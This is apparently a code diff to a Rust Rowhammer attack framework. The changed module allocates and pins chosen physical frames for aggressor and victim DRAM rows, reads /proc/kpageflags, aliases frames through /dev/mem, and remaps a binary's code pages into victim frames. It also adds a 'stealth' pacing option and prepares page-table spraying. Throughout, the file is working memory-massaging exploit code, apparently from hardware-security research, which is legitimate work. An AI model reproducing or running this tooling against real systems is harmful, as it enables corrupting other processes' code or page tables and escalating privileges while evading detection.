@@ -1,12 +1,17 @@
 
 use std::fs::File;
 use std::os::unix::io::AsRawFd;
+use std::cmp::Reverse;
 use std::collections::HashSet;
 use std::collections::HashMap;
 use mmap::{MemoryMap,MapOption};
 use log::*;
+use serde::Serialize;
 
-use crate::utils::{self, serialize::*, dram, proc};
+use crate::utils::{serialize::*, dram, memlock, pressure, proc, stealth,
+  timeline};
+use crate::utils::oracle::PhysAddrOracle;
+use crate::context::RhContext;
 use crate::config::*;
 
 
@@ -16,10 +21,12 @@ use crate::config::*;
 //then remaps them into a contiguous virtual address space starting
 //at the address provided in the attack_config.toml file
 pub fn map_binary(
-  program_path: &str, attack_config: &AttackConfig,
-  frame2map: &mut Frame2Map
+  ctx: &RhContext, oracle: &impl PhysAddrOracle, program_path: &str,
+  attack_config: &AttackConfig, frame2map: &mut Frame2Map
 ) {
   info!("Mapping binary file {}", program_path);
+  let page_size = ctx.geometry.page_size();
+  let page_size_bits = ctx.geometry.page_size_bits;
 
   let file = File::open(&program_path).expect("Could not open file");
   let elf_file =
@@ -29,10 +36,10 @@ pub fn map_binary(
     .expect("Could not find PT_NULL segment");
 
   let segment_file_offset = segment.offset;
-  let segment_page_count = (segment.filesz >> PAGE_SIZE_BITS) + 1;
+  let segment_page_count = (segment.filesz >> page_size_bits) + 1;
   info!("The PT_NULL segment contains {} pages", segment_page_count);
   //the filesz and memsz should be the same for segment that contains only code
-  assert!(segment_page_count == (segment.memsz >> PAGE_SIZE_BITS) + 1,
+  assert!(segment_page_count == (segment.memsz >> page_size_bits) + 1,
     "memsz != filesz, does your section contain only code?");
 
   //to keep the order of the pages in PT_NULL segment
@@ -41,8 +48,8 @@ pub fn map_binary(
   //1. map the whole segment in random pages
   debug!("mapping:");
   for page_index in  0..segment_page_count {
-    let page_file_offset = segment_file_offset + page_index * PAGE_SIZE as u64;
-    let page = MemoryMap::new(PAGE_SIZE as usize,
+    let page_file_offset = segment_file_offset + page_index * page_size as u64;
+    let page = MemoryMap::new(page_size,
       &[MapOption::MapReadable, MapOption::MapExecutable,
         MapOption::MapFd(file.as_raw_fd()),
         MapOption::MapOffset(page_file_offset as usize)])
@@ -54,7 +61,8 @@ pub fn map_binary(
     debug!("  - PT_NULL segment page {} (file offset 0x{:x}) at V0x{:x}",
       page_index, page_file_offset, page.data() as u64);
 
-    let frame_addr = proc::virt_to_phys(page.data() as u64);
+    memlock::lock_page(page.data());
+    let frame_addr = oracle.virt_to_phys(page.data() as u64);
     segment_pages.push(frame_addr);
     frame2map.insert(frame_addr, page); //keep ownership together in frame2map
   }
@@ -64,19 +72,19 @@ pub fn map_binary(
   for victim_frame in &attack_config.victim_frames {
     let page_index =
       ((victim_frame.page_file_offset.unwrap() - segment_file_offset)
-      >> PAGE_SIZE_BITS) as usize;
+      >> page_size_bits) as usize;
     let src_page = frame2map.remove(&segment_pages[page_index]).unwrap();
     //dest is already allocated earlier
     let dest_page = frame2map.get(&victim_frame.frame_addr).unwrap().data();
     debug!("  - segment page {} to V0x{:x} (P0x{:x})",
       page_index, src_page.data() as u64, dest_page as u64);
     unsafe {
-      let dst = std::slice::from_raw_parts_mut(dest_page, PAGE_SIZE);
-      let src = std::slice::from_raw_parts(src_page.data(), PAGE_SIZE);
+      let dst = std::slice::from_raw_parts_mut(dest_page, page_size);
+      let src = std::slice::from_raw_parts(src_page.data(), page_size);
       dst.copy_from_slice(src);
     }
 
-    let tmp = proc::virt_to_phys(dest_page as u64);
+    let tmp = oracle.virt_to_phys(dest_page as u64);
     assert!(victim_frame.frame_addr == tmp, "page frame changed after memcpy");
 
     segment_pages[page_index] = victim_frame.frame_addr;
@@ -90,22 +98,27 @@ pub fn map_binary(
   for (page_index, frame_addr) in segment_pages.iter().enumerate() {
     let old_page_addr = frame2map[&frame_addr].data() as u64;
     let new_page_addr =
-      attack_config.segment_virt_addr + (page_index * PAGE_SIZE) as u64;
+      attack_config.segment_virt_addr + (page_index * page_size) as u64;
     //to prevent libc::mremap from unmapping any other (aggressor) page that
     //was already mapped at the new address
     if let Some(v) = virt_addrs.remove(&new_page_addr) {
       //allocate and deallocate a random page to get a virtual address that is
       //unmapped for sure
-      let page = MemoryMap::new(PAGE_SIZE as usize, &[MapOption::MapReadable])
+      let page = MemoryMap::new(page_size, &[MapOption::MapReadable])
         .expect("Page allocation failed");
       let addr = page.data();
       std::mem::drop(page);
       frame2map.get_mut(&v).unwrap().mremap(addr);
+      oracle.remapped(new_page_addr, addr as u64);
       virt_addrs.insert(addr as u64, v);
     }
 
     frame2map.get_mut(&frame_addr).unwrap().mremap(new_page_addr as *mut u8);
-    assert!(*frame_addr == proc::virt_to_phys(new_page_addr),
+    oracle.remapped(old_page_addr, new_page_addr);
+    //the next segment page may go to the old address of this one
+    virt_addrs.remove(&old_page_addr);
+    virt_addrs.insert(new_page_addr, *frame_addr);
+    assert!(*frame_addr == oracle.virt_to_phys(new_page_addr),
       "Physical address changed during mremap!");
     debug!("  - V0x{:x} -> V0x{:x} (P0x{:x})",
       old_page_addr, new_page_addr, frame_addr);
@@ -113,19 +126,193 @@ pub fn map_binary(
 }
 
 
+//// ALIASES ///////////////////////////////////////////////////////////////////
+
+//Maps every frame in arg:frames arg:count extra times at different virtual
+//addresses, e.g., to rotate between the mappings of an aggressor frame while
+//hammering (rules out TLB/page walk effects)
+//The aliases are created with /dev/mem, see utils/devmem.rs for the
+//requirements
+pub fn map_aliases(
+  ctx: &RhContext, frames: impl Iterator<Item = u64>, count: usize
+) -> Frame2Aliases {
+  info!("Mapping every aggressor frame {} extra times", count);
+  let devmem = ctx.devmem();
+
+  let mut frame2aliases = HashMap::new();
+  for frame_addr in frames {
+    if frame2aliases.contains_key(&frame_addr) {
+      continue;
+    }
+    let aliases = (0..count).map(|_| {
+      let page = MemoryMap::new(ctx.geometry.page_size(),
+        &[MapOption::MapReadable, MapOption::MapWritable,
+          MapOption::MapFd(devmem.as_raw_fd()),
+          MapOption::MapOffset(frame_addr as usize),
+          MapOption::MapNonStandardFlags(libc::MAP_SHARED)])
+        .expect("Could not map frame through /dev/mem");
+      trace!("Alias V0x{:x} for frame P0x{:x}", page.data() as u64, frame_addr);
+      page
+    }).collect::<Vec<_>>();
+    frame2aliases.insert(frame_addr, aliases);
+  }
+
+  frame2aliases
+}
+
+
 //// ALLOCATIONS ///////////////////////////////////////////////////////////////
 
+//How hard a wanted frame is to obtain, from its page flags in /proc/kpageflags
+//(needs root) before and while allocating, so the allocation reports the
+//hard frames first and fails right away for a frame it can never obtain,
+//instead of after minutes of allocating for the easy frames, and drops the
+//page cache while frames it still misses are in use
+//The order in which the frames are found is up to the page allocator, the
+//hints do not change it
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum FrameHint {
+  //free in the buddy allocator
+  Free,
+  //in the page cache or mapped by a process, obtainable once it is reclaimed
+  //(e.g., with `RH_MEMORY_PRESSURE`)
+  InUse,
+  //slab, page table, mlocked or huge page, or no flags at all (most likely
+  //kernel memory), obtainable only once the kernel or its owner frees it
+  Kernel,
+  //reserved, offline, hwpoisoned or without a page: the page allocator
+  //never hands it out
+  Unobtainable
+}
+
+//bits of /proc/kpageflags
+static KPF_LRU: u32 = 5;
+static KPF_SLAB: u32 = 7;
+static KPF_BUDDY: u32 = 10;
+static KPF_MMAP: u32 = 11;
+static KPF_ANON: u32 = 12;
+static KPF_HUGE: u32 = 17;
+static KPF_UNEVICTABLE: u32 = 18;
+static KPF_HWPOISON: u32 = 19;
+static KPF_NOPAGE: u32 = 20;
+static KPF_OFFLINE: u32 = 23;
+static KPF_PGTABLE: u32 = 26;
+static KPF_RESERVED: u32 = 32;
+static KPF_MLOCKED: u32 = 33;
+
+impl FrameHint {
+  fn from_flags(flags: u64) -> FrameHint {
+    let set = |bits: &[u32]| bits.iter().any(|b| flags & (1 << b) != 0);
+    if set(&[KPF_RESERVED, KPF_HWPOISON, KPF_NOPAGE, KPF_OFFLINE]) {
+      FrameHint::Unobtainable
+    } else if set(&[KPF_BUDDY]) {
+      FrameHint::Free
+    } else if set(&[KPF_SLAB, KPF_PGTABLE, KPF_HUGE, KPF_UNEVICTABLE,
+      KPF_MLOCKED]) {
+      FrameHint::Kernel
+    } else if set(&[KPF_LRU, KPF_MMAP, KPF_ANON]) {
+      FrameHint::InUse
+    } else {
+      FrameHint::Kernel
+    }
+  }
+}
+
+fn frame_hint(kpageflags: &File, frame_addr: u64) -> Option<FrameHint> {
+  let flags = proc::read_kpageflags(kpageflags, frame_addr)?;
+  if flags != 0 {
+    return Some(FrameHint::from_flags(flags));
+  }
+  //only the first frame of a free block has the buddy flag
+  let in_free_block = (1..=MAX_BUDDY_ORDER)
+    .map(|order| frame_addr & !((1 << (*PAGE_SIZE_BITS + order)) - 1))
+    .any(|head| proc::read_kpageflags(kpageflags, head)
+    .is_some_and(|f| f & (1 << KPF_BUDDY) != 0));
+  Some(if in_free_block {FrameHint::Free} else {FrameHint::Kernel})
+}
+
+//The hints of arg:frames, None if /proc/kpageflags cannot be opened
+//The frames whose flags cannot be read (e.g., beyond the end of the memory
+//map) have no hint
+pub fn frame_hints(frames: impl IntoIterator<Item = u64>)
+  -> Option<HashMap<u64, FrameHint>>
+{
+  let kpageflags = File::open("/proc/kpageflags").ok()?;
+  Some(frames.into_iter().filter_map(|frame| {
+    let hint = frame_hint(&kpageflags, frame);
+    if hint.is_none() {
+      debug!("No page flags for P0x{:x}", frame);
+    }
+    Some((frame, hint?))
+  }).collect())
+}
+
+//Fails if more than arg:allowed frames of arg:wanted are unobtainable (the
+//allocation would never end)
+//Returns the hints of arg:wanted (None without access to /proc/kpageflags)
+fn check_obtainable(wanted: &HashSet<u64>, allowed: usize)
+  -> Option<HashMap<u64, FrameHint>>
+{
+  let hints = frame_hints(wanted.iter().cloned())?;
+  let mut unobtainable: Vec<u64> = hints.iter()
+    .filter(|(_, h)| **h == FrameHint::Unobtainable).map(|(f, _)| *f)
+    .collect();
+  unobtainable.sort();
+  assert!(unobtainable.len() <= allowed, "{} wanted frames can never be \
+    allocated (reserved, offline, hwpoisoned or without a page, {} allowed): \
+    {}", unobtainable.len(), allowed, unobtainable.iter()
+    .map(|f| format!("P0x{:x}", f)).collect::<Vec<_>>().join(", "));
+  Some(hints)
+}
+
+//Checks the frames still missing while allocating (see `check_obtainable`)
+//and drops the page cache if some of them are in use, so they are reclaimed
+//before the allocation gets to them
+fn recheck_missing(ctx: &RhContext, missing: &HashSet<u64>, allowed: usize) {
+  let Some(hints) = check_obtainable(missing, allowed) else {
+    return;
+  };
+  let in_use = hints.values().filter(|h| **h == FrameHint::InUse).count();
+  if in_use > 0 {
+    debug!("{} missing frames are in use", in_use);
+    ctx.clear_page_cache();
+  }
+}
+
+//Logs how many of the wanted frames have which hint and the frames, the
+//hardest first
+fn log_frame_hints(hints: &HashMap<u64, FrameHint>) {
+  let count = |hint| hints.values().filter(|h| **h == hint).count();
+  info!("Frame hints: {} free, {} in use, {} kernel, {} unobtainable",
+    count(FrameHint::Free), count(FrameHint::InUse), count(FrameHint::Kernel),
+    count(FrameHint::Unobtainable));
+  if count(FrameHint::InUse) > 0 && pressure::requested().is_none() {
+    info!("Memory pressure (RH_MEMORY_PRESSURE) reclaims the frames in use \
+      before allocating, otherwise only the page cache is dropped while \
+      allocating");
+  }
+  let mut frames: Vec<(&u64, &FrameHint)> = hints.iter().collect();
+  frames.sort_by_key(|(f, h)| (Reverse(**h), **f));
+  for (frame, hint) in frames {
+    trace!("  - P0x{:x} ({:?})", frame, hint);
+  }
+}
+
 //Allocates all pages whose frame address is in arg:frames_to_allocate
 //see `drop_frac` in docs/example_templater_config.toml for arg:drop_frac
 //Return these pages (with ownership) and there phys addr
 pub fn allocate_pages(
+  ctx: &RhContext, oracle: &impl PhysAddrOracle,
   mut frames_to_allocate: HashSet<u64>, drop_frac: f64
 ) -> Frame2Map {
   let limit = (drop_frac * frames_to_allocate.len() as f64) as usize;
   info!("Looking for {} frames, allows {}% loss (= {} frames)",
     frames_to_allocate.len(), drop_frac * 100f64, limit);
-  for item in &frames_to_allocate {
-    trace!("  - 0x{:x}", item);
+  match check_obtainable(&frames_to_allocate, limit) {
+    Some(hints) => log_frame_hints(&hints),
+    None => for item in &frames_to_allocate {
+      trace!("  - P0x{:x}", item);
+    }
   }
 
   //[MemoryMap] for all allocated pages of no interest (= does not contain
@@ -134,26 +321,42 @@ pub fn allocate_pages(
   //[u64 -> MemoryMap] for all allocated wanted pages
   let mut frame2map = HashMap::new();
 
+  //optionally put the page cache and the buddy allocator under pressure first
+  pressure::apply_requested();
+
   //start allocating
   let mut counter = 1u64;
+  let mut pages = 0u64;
   while frames_to_allocate.len() > limit {
-    let (frame_addr, page_addr, page) = allocate_page();
+    let (frame_addr, page_addr, page) = allocate_page(ctx, oracle);
+    pages += 1;
+    ctx.timeline.pages_allocated(pages, counter - 1, false);
+    if ctx.settings.stealth {
+      stealth::pace();
+    }
+    if pages.is_multiple_of(FRAME_HINT_INTERVAL) {
+      recheck_missing(ctx, &frames_to_allocate, limit);
+    }
     if !frames_to_allocate.remove(&frame_addr) {
       garbage_pages.push(page);
       trace!("Frame is not needed");
     } else {
       info!("{}", format!("{}. Found frame P0x{:x} (page V0x{:x})",
         counter, frame_addr, page_addr));
+      ctx.timeline.record(timeline::Event::FrameFound {frame_addr, pages});
+      memlock::lock_page(page.data());
       frame2map.insert(frame_addr, page);
       counter += 1;
     }
   }
+  ctx.timeline.pages_allocated(pages, counter - 1, true);
+  ctx.resources.pages_allocated(pages);
 
   //release the system from the memory stress
   info!("Unmap all pages of no interest");
   std::mem::drop(garbage_pages);
   //this seems to increase RH success
-  utils::clear_page_cache();
+  ctx.clear_page_cache();
 
   frame2map
 }
@@ -161,10 +364,12 @@ pub fn allocate_pages(
 //Allocate read+write+private+anonymous page and access it to put it in
 //physical memory
 //Return (physical address, virtual address, MemoryMap)
-fn allocate_page() -> (u64, u64, MemoryMap) {
+fn allocate_page(ctx: &RhContext, oracle: &impl PhysAddrOracle)
+  -> (u64, u64, MemoryMap)
+{
   //default MAP_PRIVATE and MAP_ANONYMOUS
   let page = MemoryMap::new(
-    PAGE_SIZE as usize,
+    ctx.geometry.page_size(),
     &[MapOption::MapReadable, MapOption::MapExecutable, MapOption::MapWritable]
   ).expect("Page allocation failed");
   let page_addr = page.data();
@@ -175,46 +380,293 @@ fn allocate_page() -> (u64, u64, MemoryMap) {
   //(even though i didn't test with page dedupliction turned on)
   unsafe {std::ptr::write(page_addr, 0);}
 
-  let frame_addr = proc::virt_to_phys(page_addr as u64);
+  let frame_addr = oracle.virt_to_phys(page_addr as u64);
 
   trace!("Allocated page V0x{:x} (P0x{:x})", page_addr as u64, frame_addr);
 
   (frame_addr, page_addr as u64, page)
 }
 
+//Like `allocate_pages`, but only the frames in arg:required have to be found
+//The frames in arg:optional are collected along the way, and for at most
+//arg:grace_pages more pages after the last required or optional frame was
+//found
+pub fn allocate_pages_optional(
+  ctx: &RhContext, oracle: &impl PhysAddrOracle,
+  mut required: HashSet<u64>, mut optional: HashSet<u64>, grace_pages: u64
+) -> Frame2Map {
+  info!("Looking for {} frames and {} optional frames", required.len(),
+    optional.len());
+  if let Some(hints) = check_obtainable(&required, 0) {
+    log_frame_hints(&hints);
+  }
+  //the unobtainable optional frames are missing right away
+  let hints = frame_hints(optional.iter().cloned()).unwrap_or_default();
+  for (frame, _) in hints.iter().filter(|(_, h)| **h == FrameHint::Unobtainable)
+  {
+    debug!("Optional frame P0x{:x} is unobtainable", frame);
+    optional.remove(frame);
+  }
+  pressure::apply_requested();
+
+  let mut garbage_pages = Vec::new();
+  let mut frame2map = HashMap::new();
+  let mut since_last_found = 0u64;
+  let mut pages = 0u64;
+  while !required.is_empty()
+    || (!optional.is_empty() && since_last_found < grace_pages)
+  {
+    let (frame_addr, page_addr, page) = allocate_page(ctx, oracle);
+    pages += 1;
+    ctx.timeline.pages_allocated(pages, frame2map.len() as u64, false);
+    if ctx.settings.stealth {
+      stealth::pace();
+    }
+    if pages.is_multiple_of(FRAME_HINT_INTERVAL) {
+      recheck_missing(ctx, &required, 0);
+    }
+    if required.remove(&frame_addr) || optional.remove(&frame_addr) {
+      info!("Found frame P0x{:x} (page V0x{:x})", frame_addr, page_addr);
+      ctx.timeline.record(timeline::Event::FrameFound {frame_addr, pages});
+      memlock::lock_page(page.data());
+      frame2map.insert(frame_addr, page);
+      since_last_found = 0;
+    } else {
+      garbage_pages.push(page);
+      since_last_found += 1;
+    }
+  }
+  ctx.timeline.pages_allocated(pages, frame2map.len() as u64, true);
+  ctx.resources.pages_allocated(pages);
+  optional.iter().for_each(|x| debug!("Optional frame P0x{:x} not found", x));
+
+  info!("Unmap all pages of no interest");
+  std::mem::drop(garbage_pages);
+  ctx.clear_page_cache();
+
+  frame2map
+}
+
+//The result of an allocation probe: which share of the wanted frames of a
+//row range the allocation obtains on this machine, and after how many pages,
+//to choose the drop_frac of a config from measurements instead of guessing
+//and retrying
+#[derive(Serialize)]
+pub struct AllocationProbe {
+  pub wanted: usize,
+  //allocated pages in total
+  pub pages: u64,
+  //number of allocated pages when the n-th wanted frame was found
+  pub found_at_pages: Vec<u64>
+}
+
+impl AllocationProbe {
+  //fraction of the wanted frames that were not found (unobtainable)
+  pub fn missed_frac(&self) -> f64 {
+    1.0 - self.found_at_pages.len() as f64 / self.wanted.max(1) as f64
+  }
+
+  //pages the probe needed to find all but arg:drop_frac of the wanted frames
+  //(None if it did not find that many)
+  pub fn pages_for(&self, drop_frac: f64) -> Option<u64> {
+    let frames = ((1.0 - drop_frac) * self.wanted as f64).ceil() as usize;
+    match frames {
+      0 => Some(0),
+      n => self.found_at_pages.get(n - 1).cloned()
+    }
+  }
+
+  //The unobtainable fraction with DROP_FRAC_MARGIN
+  pub fn suggest_drop_frac(&self) -> f64 {
+    (self.missed_frac() + DROP_FRAC_MARGIN).min(1.0)
+  }
+}
+
+//Allocates pages until all frames in arg:wanted are found or no wanted frame
+//was found for arg:grace_pages pages, the frames that are not found by then
+//are considered unobtainable (e.g., in use by the kernel)
+//All pages are released afterwards
+pub fn probe_allocation(
+  ctx: &RhContext, oracle: &impl PhysAddrOracle, mut wanted: HashSet<u64>,
+  grace_pages: u64
+) -> AllocationProbe {
+  info!("Probing the allocation of {} frames", wanted.len());
+  let mut probe = AllocationProbe {
+    wanted: wanted.len(),
+    pages: 0,
+    found_at_pages: Vec::new()
+  };
+  pressure::apply_requested();
+
+  let mut allocated_pages = Vec::new();
+  let mut since_last_found = 0u64;
+  while !wanted.is_empty() && since_last_found < grace_pages {
+    let (frame_addr, _, page) = allocate_page(ctx, oracle);
+    probe.pages += 1;
+    ctx.timeline.pages_allocated(probe.pages,
+      probe.found_at_pages.len() as u64, false);
+    if wanted.remove(&frame_addr) {
+      debug!("Found frame P0x{:x}", frame_addr);
+      probe.found_at_pages.push(probe.pages);
+      since_last_found = 0;
+    } else {
+      since_last_found += 1;
+    }
+    allocated_pages.push(page);
+  }
+  ctx.timeline.pages_allocated(probe.pages, probe.found_at_pages.len() as u64,
+    true);
+  ctx.resources.pages_allocated(probe.pages);
+  info!("Found {} of {} frames in {} pages", probe.found_at_pages.len(),
+    probe.wanted, probe.pages);
+
+  std::mem::drop(allocated_pages);
+  ctx.clear_page_cache();
+  probe
+}
+
 //Allocates pages until all victims and aggressors are found
+//With an `aggr_fallback` policy, missing aggressor rows are substituted in
+//arg:attack_config (see AggrFallback)
 //Returns a map: frame addr -> MemoryMap objects (that have ownership over
 //the allocated pages) for victims and aggressors
+//arg:ctx needs a DRAM config
 pub fn allocate_attack (
-  dram_config: &DRAMConfig,
-  attack_config: &AttackConfig
+  ctx: &RhContext,
+  oracle: &impl PhysAddrOracle,
+  attack_config: &mut AttackConfig
 ) -> Frame2Map {
   info!("Allocating pages while looking for aggressors and victims");
+  let dram_config = ctx.dram_config();
 
   //all the frames we need to allocate (victims + aggressors)
-  let mut frames_to_allocate: HashSet<u64> = HashSet::new();
-  //add victim
-  frames_to_allocate.extend(
-    attack_config.victim_frames.iter().map(|x| x.frame_addr));
-  //add aggressors
-  frames_to_allocate.extend(attack_config.iter_aggr_frames());
+  //(the frames of page-table victims are allocated to free them right before
+  //spraying page tables, see rowhammer::pte)
+  let victims: HashSet<u64> = attack_config.iter_victim_frame_addrs().collect();
+  let aggrs: HashSet<u64> = attack_config.iter_aggr_frames().collect();
 
   //frame2map (frame addr -> MemoryMap) keeps ownership of the MemoryMap object
   //and thus keeps the pages allocated
-  let frame2map = allocate_pages(frames_to_allocate, 0f64);
+  let frame2map = match attack_config.aggr_fallback {
+    AggrFallback::Exact => {
+      allocate_pages(ctx, oracle, victims.union(&aggrs).cloned().collect(),
+        0f64)
+    },
+    fallback => {
+      let mirrors = if fallback == AggrFallback::Mirror {
+        mirror_aggr_rows(ctx, attack_config)
+      } else {
+        HashMap::new()
+      };
+      let optional = aggrs.iter().cloned()
+        .chain(mirrors.values().flatten().cloned()).collect();
+      let mut frame2map = allocate_pages_optional(
+        ctx, oracle, victims, optional, AGGR_FALLBACK_GRACE_PAGES);
+      substitute_missing_aggrs(attack_config, &mirrors, &mut frame2map);
+      frame2map
+    }
+  };
 
   //attack_config is validated so there should be no overlap between
   //victim and aggressor rows
   attack_config.victim_frames.iter().for_each(|x| {
-    debug!("victim: 0x{:x} -> {:?}",
+    debug!("victim: P0x{:x} -> {:?}",
       x.frame_addr, dram::phys_to_dram(x.frame_addr, dram_config));
   });
 
   attack_config.iter_aggr_frames().for_each(|x| {
-    debug!("aggressor: 0x{:x} (for row 0x{:x}) -> {:?}",
-      x, x & ROW_ALIGN_MASK, dram::phys_to_dram(x, dram_config));
+    debug!("aggressor: P0x{:x} (for row P0x{:x}) -> {:?}",
+      x, x & ctx.geometry.row_align_mask(),
+      dram::phys_to_dram(x, dram_config));
   });
 
   frame2map
 }
 
+//Returns for each aggressor row (first frame) the frames of the row at the
+//same distance on the other side of its victim row
+//Only for aggressor rows that are used for a single victim row, and only if
+//the mirrored row is not used as victim or aggressor row already
+fn mirror_aggr_rows(
+  ctx: &RhContext, attack_config: &AttackConfig
+) -> HashMap<u64, Vec<u64>> {
+  let dram_config = ctx.dram_config();
+  //victim rows (bank, row) per pattern key
+  let mut pattern2victims: HashMap<&str, HashSet<(u64, u64)>> = HashMap::new();
+  for frame in &attack_config.victim_frames {
+    let victim = dram::phys_to_dram(frame.frame_addr, dram_config);
+    for bit in &frame.victim_bits {
+      pattern2victims.entry(&bit.aggr_pattern_key).or_default()
+        .insert((victim.bank, victim.row));
+    }
+  }
+
+  //victim rows per aggressor row
+  let mut aggr2victims: HashMap<u64, HashSet<(u64, u64)>> = HashMap::new();
+  for (key, pattern) in attack_config.iter_aggr_patterns() {
+    for row in pattern {
+      aggr2victims.entry(row.frames[0]).or_default()
+        .extend(pattern2victims.get(key.as_str()).into_iter().flatten());
+    }
+  }
+
+  let used: HashSet<u64> = attack_config.iter_aggr_frames()
+    .chain(attack_config.victim_frames.iter()
+      .flat_map(|x| ctx.geometry.frames_in_row(x.frame_addr)))
+    .collect();
+  aggr2victims.into_iter().filter_map(|(row, victims)| {
+    if victims.len() != 1 {
+      return None;
+    }
+    let (bank, victim_row) = victims.into_iter().next().unwrap();
+    let aggr = dram::phys_to_dram(row, dram_config);
+    if aggr.bank != bank || 2 * victim_row < aggr.row {
+      return None;
+    }
+    let mirror = dram::dram_to_phys(&dram::DRAMAddr {
+      bank, row: 2 * victim_row - aggr.row, column: 0}, dram_config);
+    let frames = ctx.geometry.frames_in_row(mirror);
+    if frames.iter().any(|f| used.contains(f)) {
+      return None;
+    }
+    Some((row, frames))
+  }).collect()
+}
+
+//Substitutes the aggressor rows of which not all frames were captured, by the
+//captured frames of the row or by its mirrored row (if in arg:mirrors)
+//Releases the frames of mirrored rows that are not needed
+fn substitute_missing_aggrs(
+  attack_config: &mut AttackConfig,
+  mirrors: &HashMap<u64, Vec<u64>>,
+  frame2map: &mut Frame2Map
+) {
+  let rows: Vec<Vec<u64>> = attack_config.iter_aggr_rows()
+    .map(|r| r.frames.clone()).collect::<HashSet<_>>().into_iter().collect();
+  for frames in rows {
+    if frames.iter().all(|f| frame2map.contains_key(f)) {
+      continue;
+    }
+    let captured: Vec<u64> = frames.iter().cloned()
+      .filter(|f| frame2map.contains_key(f)).collect();
+    let substitute = if !captured.is_empty() {
+      captured
+    } else {
+      mirrors.get(&frames[0]).map(|m| m.iter().cloned()
+        .filter(|f| frame2map.contains_key(f)).collect::<Vec<_>>())
+        .filter(|m| !m.is_empty())
+        .unwrap_or_else(|| panic!("Could not capture aggressor row P0x{:x} \
+          or a substitute", frames[0]))
+    };
+    warn!("Aggressor row P0x{:x} not fully captured, substituted by frames {}",
+      frames[0], substitute.iter().map(|f| format!("P0x{:x}", f))
+        .collect::<Vec<_>>().join(","));
+    attack_config.substitute_aggr_row(frames[0], substitute);
+  }
+
+  //unmap the mirrored rows that are not used
+  let aggrs: HashSet<u64> = attack_config.iter_aggr_frames().collect();
+  mirrors.values().flatten()
+    .filter(|f| !aggrs.contains(f))
+    .for_each(|f| {frame2map.remove(f);});
+}